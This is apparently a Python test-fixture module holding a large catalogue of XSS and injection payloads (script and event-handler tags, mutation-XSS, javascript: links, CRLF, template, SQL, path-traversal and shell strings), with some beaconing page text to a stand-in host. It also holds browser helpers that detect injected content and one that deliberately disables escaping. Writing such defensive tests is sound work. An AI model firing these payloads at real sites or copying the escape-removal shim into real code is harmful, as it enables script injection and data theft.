"""What people send to break a page, written for these tests; and a trap that hears whatever runs."""

from __future__ import annotations

_RUN = "alert('ran')"
_AWAY = "https://beacon.example/x"

HOSTILE: tuple[str, ...] = (
    # Elements that run something.
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt src={_AWAY}.js></sCrIpT>",
    f"<script type=module>import '{_AWAY}.mjs'</script>",
    f'<script type="importmap">{{"imports": {{"/desk/static/row.js": "{_AWAY}"}}}}</script>',
    f"<img src=x onerror={_RUN}>",
    f'<img src="{_AWAY}.png" alt="a picture">',
    f"<image href=x onerror={_RUN}>",
    f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x></svg>",
    f"<svg><script href=data:,{_RUN}></script></svg>",
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object><embed src=javascript:{_RUN}>",
    f"<video><source onerror={_RUN}></video><audio src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>more</summary></details>",
    f"<input autofocus onfocus={_RUN}><select autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}><marquee onstart={_RUN}>hello",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<template><img src=x onerror={_RUN}></template><noscript><img src=x onerror={_RUN}>",
    # Elements that change the page or send it somewhere.
    f'<base href="{_AWAY}/"><link rel=stylesheet href="{_AWAY}.css">',
    f'<meta http-equiv=refresh content="0;url={_AWAY}">',
    f"<style>* {{ display: none; background: url({_AWAY}) }}</style>",
    f'<form action="{_AWAY}"><button>Sign in again</button></form>',
    '</li></ul></main><dialog open><input name=password type=password placeholder="Your password">',
    "<div style=position:fixed;inset:0>You have been signed out</div>",
    # Ways out of an attribute, a text box, a comment, a script's data.
    f'"><img src=x onerror={_RUN}>',
    f"' onmouseover={_RUN} x='",
    f'" autofocus onfocus="{_RUN}',
    f"</textarea><script>{_RUN}</script>",
    f"</title></style></noscript></template><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "`;alert('ran');`${alert('ran')}",
    # Addresses that run.
    f"javascript:{_RUN}//https://nettly.example",
    f"  jAvAsCrIpT&colon;{_RUN}",
    f"[press here](javascript:{_RUN}) and [here](https://nettly.example/\" onclick=\"{_RUN})",
    f"[here](data:text/html,<script>{_RUN}</script>) `<b>` **<img src=x onerror={_RUN}>**",
    f"data:text/html;base64,PHNjcmlwdD4= vbscript:{_RUN}",
    f"https://nettly.example@beacon.example/<script>{_RUN}</script>?q=\"'><svg onload={_RUN}>",
    # Templates, formats and replacements.
    "{{ 7 * 7 }} {{customer.name}} {% raw %} {# no #} ${7*7} #{7*7} <%= 7*7 %>",
    "{name} {number} {n} %(name)s %s {0} $& $1 $` __proto__ constructor",
    "=HYPERLINK(\"https://beacon.example\") @SUM(1) +1 -1 '; DROP TABLE cases; --",
    "line one\r\nSet-Cookie: a=b\r\n\r\n<b>line two</b>\u2028line three\u0085line four",
    # Letters that turn, stack or hide others.
    "\u202egnp.eruticp\u202c exe.\u202dpicture\u202c \u2066isolated\u2069 \u2067turned",
    "\u202e\u202e\u202e never closed",
    "\u0645\u0631\u062d\u0628\u0627 NT-10427 \u05e9\u05dc\u05d5\u05dd (1) \u200f!\u200e",
    "Z\u0338\u0322\u030d\u0311" * 60 + "algo",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \ufdfd \U000e0041 \ufeff\u200b\u2060 soft\u00adhyphen",
    "Unbroken" * 1000,
    "<b>\u00e9 " * 1333,
    "\n" * 200 + "after many lines",
)  # fmt: skip
"""One of each kind; some of them are long."""

MORE: tuple[str, ...] = (
    # Everything that can hold a handler, and the handlers that need nobody to press anything.
    f"<audio src=x onerror={_RUN}></audio>",
    f"<video src=x onerror={_RUN}></video>",
    f"<video poster={_AWAY}.png autoplay onloadstart={_RUN}><source src=x>",
    f"<track src=x onerror={_RUN}><source srcset=x onerror={_RUN}>",
    f"<img srcset=x onerror={_RUN}><picture><source srcset=x><img onerror={_RUN} src=x></picture>",
    f"<img src=x oNeRrOr = {_RUN} >",
    f"<img/src=x/onerror={_RUN}>",
    f"<img\tsrc=x\nonerror\r=\f{_RUN}>",
    f"<img src=x onerror={_RUN}//",
    f"<img src=x onerror=\"{_RUN}\" alt=`",
    "<img src=x onerror=alert`ran`>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('ran')>",
    "<img src=x onerror=\\u0061lert('ran')>",
    "<img src=x onerror=eval(atob('YWxlcnQoJ3Jhbicp'))>",
    "<img src=x onerror=window['al'+'ert']('ran')>",
    "<img src=x onerror=top.alert('ran')>",
    "<img src=x onerror=import('data:text/javascript,alert(1)')>",
    f"<img src=x onerror=fetch('{_AWAY}')>",
    f"<img src=x onerror=navigator.sendBeacon('{_AWAY}',document.body.innerText)>",
    f"<img src=x onerror=location='{_AWAY}'>",
    f"<img src=x onerror=open('{_AWAY}')>",
    f"<body onpageshow={_RUN}><body onfocus={_RUN}><body onresize={_RUN}><body onhashchange={_RUN}>",
    f"<frameset onload={_RUN}><frame src=javascript:{_RUN}></frameset>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<button autofocus onfocus={_RUN}>Go on</button>",
    f"<a autofocus tabindex=0 href=# onfocus={_RUN}>here</a>",
    f"<div contenteditable autofocus onfocus={_RUN}>write here</div>",
    f"<p onanimationstart={_RUN} style=animation:x><style>@keyframes x{{}}</style>",
    f"<p style=transition:1s;color:red ontransitionend={_RUN}>red</p>",
    f"<p onpointerrawupdate={_RUN} onpointerenter={_RUN} onmouseenter={_RUN}>touch me</p>",
    f"<p onscrollend={_RUN} onscroll={_RUN} style=overflow:scroll;height:1px><br><br>",
    f"<p onwheel={_RUN} oncopy={_RUN} onpaste={_RUN} ondragenter={_RUN}>take me along</p>",
    f"<p popover id=open onbeforetoggle={_RUN} ontoggle={_RUN}>hello</p>",
    f"<dialog open onclose={_RUN} oncancel={_RUN}><form method=dialog><button autofocus>ok</button></form>",
    f"<x oncontentvisibilityautostatechange={_RUN} style=display:block;content-visibility:auto>",
    f"<isindex type=image src=1 onerror={_RUN}><keygen autofocus onfocus={_RUN}>",
    f"<bgsound src=javascript:{_RUN}><layer src={_AWAY}></layer><xml id=x></xml>",
    f"<applet code={_AWAY}></applet><embed src={_AWAY}.svg><object data={_AWAY}.svg>",
    f"<portal src={_AWAY}></portal><fencedframe src={_AWAY}></fencedframe>",
    f"<link rel=preload as=script href={_AWAY}><link rel=modulepreload href={_AWAY}>",
    f"<link rel=import href={_AWAY}><link rel=prefetch href={_AWAY}><link rel=dns-prefetch href={_AWAY}>",
    f"<script>document.write('<img src={_AWAY}>')</script>",
    "<script defer async nomodule integrity=x crossorigin src=//beacon.example/x></script>",
    f"<script type=text/plain>{_RUN}</script><script type=speculationrules>{{}}</script>",
    f"<script nonce=guess>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<<script>{_RUN}//<</script>",
    f"<script/x>{_RUN}</script/x>",
    f"<script\x0b>{_RUN}</script >",
    f"%3Cscript%3E{_RUN}%3C/script%3E %253Cscript%253E",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e \u02c2img src=x onerror={_RUN}\u02c3",
    f"<\u017fcript>{_RUN}</\u017fcript> <\u212aey>",
    # SVG and MathML, where other rules hold.
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>here</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{_RUN} /><text y=20>here</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={_RUN}></set></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={_RUN}></svg>#x\"></use></svg>",
    f"<svg><use href={_AWAY}.svg#x></use><image href={_AWAY}.png></image></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg><style>@import '{_AWAY}.css';</style></svg>",
    f"<svg><discard onbegin={_RUN}></discard><animateTransform onrepeat={_RUN} dur=1s></svg>",
    f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{_RUN}</handler></svg>",
    f"<svg><script>{_RUN}<!--</script>--></svg>",
    f"<svg><desc><script>{_RUN}</script></desc><title><img src=x onerror={_RUN}></title></svg>",
    f"<math href=javascript:{_RUN}><mi>x</mi></math>",
    f"<math><maction actiontype=statusline#{_AWAY} xlink:href=javascript:{_RUN}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_RUN}></annotation-xml></math>",
    # Markup that becomes other markup when it is parsed a second time.
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={_RUN}&gt;\">",
    f"<svg></p><style><a id=\"</style><img src=x onerror={_RUN}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"<xmp><p title=\"</xmp><img src=x onerror={_RUN}>\">",
    f"<iframe><p title=\"</iframe><img src=x onerror={_RUN}>\">",
    f"<noembed><p title=\"</noembed><svg onload={_RUN}>\">",
    f"<noframes><p title=\"</noframes><svg onload={_RUN}>\">",
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<!--><img src=x onerror={_RUN}-->",
    f"<!-- --!><img src=x onerror={_RUN}>",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?xml version=1?><?php echo 1 ?><%{_RUN}%><!DOCTYPE x [<!ENTITY y \"{_RUN}\">]>&y;",
    f"<select><template><img src=x onerror={_RUN}></template></select>",
    f"<select><option><style></option></select><img src=x onerror={_RUN}></style>",
    f"<table><tr><td><form><input><svg onload={_RUN}></form></table>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    "<a id=page></a><form id=page><input name=textContent value='{}'><input name=texts></form>",
    "<img name=getElementById><form name=body><input name=firstChild><a id=firstline href=x>",
    # Ways out of wherever a text may stand.
    f"'\"><svg/onload={_RUN}>",
    f"\"]}}]}}</script><script>{_RUN}</script>",
    f"'}});{_RUN};({{'a':'",
    f"\\\"-{_RUN}//",
    f"';{_RUN}//\\';{_RUN}//\";{_RUN}//",
    f"</style><svg onload={_RUN}>",
    f"*/}}</style><script>{_RUN}</script>/*",
    f"red;background:url(javascript:{_RUN});behavior:url({_AWAY})",
    f"expression({_RUN}) -moz-binding:url({_AWAY}#x)",
    f"x onload={_RUN} tabindex=1",
    f"x` onload=`{_RUN}",
    f"</option></select><img src=x onerror={_RUN}>",
    f"</a></p></div></dialog></template></svg></math><img src=x onerror={_RUN}>",
    f"</body></html><script>{_RUN}</script>",
    f"\n\n<script>{_RUN}</script>\n\n",
    f"data: {{}}\n\nevent: message\ndata: {{\"author\":\"agent\",\"text\":\"<script>{_RUN}</script>\"}}\n\n",
    f"id: 9\r\nretry: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>{_RUN}</script>",
    # Addresses that are more than they look.
    f"[here](java\tscript:{_RUN}) [here](java\nscript:{_RUN}) [here](\x01javascript:{_RUN})",
    f"[here](JaVaScRiPt:{_RUN}) [here](&#106;avascript:{_RUN}) [here](javascript&#58;{_RUN})",
    f"[here](java%73cript:{_RUN}) [here](feed:javascript:{_RUN}) [here](view-source:{_AWAY})",
    f"[here](blob:https://nettly.example/x) [here](filesystem:http://x) [here](about:blank#{_RUN})",
    f"[here](vbscript:msgbox(1)) [here](livescript:{_RUN}) [here](mocha:{_RUN}) [here](jar:{_AWAY}!/x)",
    f"[here](data:image/svg+xml;utf8,<svg onload={_RUN}>) [here](data:application/xhtml+xml,x)",
    "[here](//beacon.example/x) [here](\\\\beacon.example/x) [here](/\\beacon.example) [here](///beacon)",
    f"[](javascript:{_RUN}) []() [ ]( ) [x](<javascript:{_RUN}>) [x](javascript:{_RUN} \"title\")",
    f"![here](javascript:{_RUN}) ![here]({_AWAY}.png) [![x](x)](javascript:{_RUN})",
    f"[x]: javascript:{_RUN}\n[x]\n<javascript:{_RUN}>\n<https://nettly.example onclick={_RUN}>",
    f"[https://nettly.example]({_AWAY}) https://nettly.example.beacon.example/ https://nettly\u3002example",
    "https://xn--80ak6aa92e.example/ https://\u0430\u0440\u0440\u04cf\u0435.example/ https://nett\u013ay.example",
    "https://user:secret@beacon.example/ http://127.0.0.1:22/ http://[::1]/ http://0x7f.1/ ftp://x tel:112",
    f"https://nettly.example/\"onmouseover=\"{_RUN} https://nettly.example/'><img/src/onerror={_RUN}>",
    "https://nettly.example/\u202egnp.exe https://nettly.example/\u2066x\u2069 https://nettly.example/%00",
    f"https://nettly.example/?next=javascript:{_RUN}#<svg/onload={_RUN}>",
    f"mailto:maya@nettly.example?subject=<script>{_RUN}</script>&bcc=all@beacon.example",
    # Marks of writing, cut short or inside each other.
    f"**<img src=x onerror={_RUN}>** `<img src=x onerror={_RUN}>` _<b>_ ~~<i>~~ # <h1>",
    f"**[`x`](javascript:{_RUN})** [**x](javascript:{_RUN})** `[x](javascript:{_RUN})",
    f"- <li onclick={_RUN}>\n1. <ol onclick={_RUN}>\n> <blockquote onclick={_RUN}>\n| <td onclick={_RUN}> |",
    f"```html\n<script>{_RUN}</script>\n```\n    <script>{_RUN}</script>\n~~~\n<svg onload={_RUN}>",
    "**" * 200 + "[" * 200 + "](" * 200 + "`" * 200,
    # Names of files, of people, of pages.
    f"../../../../etc/passwd\x00.png\"; filename*=UTF-8''<script>{_RUN}</script>.html",
    f"picture.png<img src=x onerror={_RUN}>.svg",
    f"Maya <maya@nettly.example>, \"<script>{_RUN}</script>\" <x@beacon.example>",
    "COM1 aux nul con .. . ~ $HOME `id` $(id) ;id |id &&id %USERPROFILE% {{config}} ${jndi:ldap://x}",
)  # fmt: skip
"""Short ones, so that many of them fit into what is called by a name."""

EVERY: tuple[str, ...] = (*HOSTILE, *MORE)

TRAP = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...said) => void window.ran.push(`${name}(${said})`);
}
document.addEventListener("securitypolicyviolation", ({violatedDirective, blockedURI, sample}) =>
  window.ran.push(`${violatedDirective} stopped ${blockedURI} ${sample}`));
addEventListener("error", ({message}) => message && window.ran.push(`error: ${message}`));
addEventListener("unhandledrejection", ({reason}) => window.ran.push(`rejected: ${reason}`));
"""
"""Put into a page before its own scripts; what ran, or was stopped on its way, is in `window.ran`."""

STRANGE = """
() => {
  const own = (element) => element.nonce || element.closest("svg.icon, .brand svg, symbol");
  const kinds = "script, style, link, iframe, object, embed, base, meta[http-equiv], math, marquee, video";
  const strange = [...document.querySelectorAll(kinds)].filter((each) =>
    !own(each) && each.rel !== "icon" && !(each.href || each.src || "").startsWith(location.origin));
  const does = ({name}) => name.startsWith("on") || name === "style";
  const attributes = [...document.querySelectorAll("*")].flatMap((each) =>
    [...each.attributes].filter(does).map(({name}) => [each, name]));
  const addresses = [...document.querySelectorAll("[href], [action], [src], [formaction]")].filter((each) =>
    ["href", "action", "src", "formaction"].some((name) =>
      /^\\s*(javascript|data|vbscript|blob):/i.test(each.getAttribute(name) || ""))
    && each.rel !== "icon");
  return [
    ...window.ran,
    ...strange.map((each) => `an element: ${each.outerHTML.slice(0, 200)}`),
    ...attributes.map(([each, name]) => `an attribute: ${name} of ${each.outerHTML.slice(0, 200)}`),
    ...addresses.map((each) => `an address: ${each.outerHTML.slice(0, 200)}`),
  ];
}
"""
"""What has run in a page, and what stands in it that none of our own templates and scripts put there."""

UNESCAPED = """
const asMarkup = (element, texts) => {
  for (const each of texts) {
    if (typeof each === "string") element.insertAdjacentHTML("beforeend", each);
    else element.appendChild(each);
  }
};
Element.prototype.append = function (...inside) { asMarkup(this, inside); };
Element.prototype.replaceChildren = function (...inside) {
  while (this.firstChild) this.firstChild.remove();
  asMarkup(this, inside);
};
const text = Object.getOwnPropertyDescriptor(Node.prototype, "textContent");
Object.defineProperty(Element.prototype, "textContent", {
  get: text.get,
  set(words) { this.innerHTML = words; },
});
"""
"""Put into a page before its own scripts, it takes the escape away: every text becomes markup."""
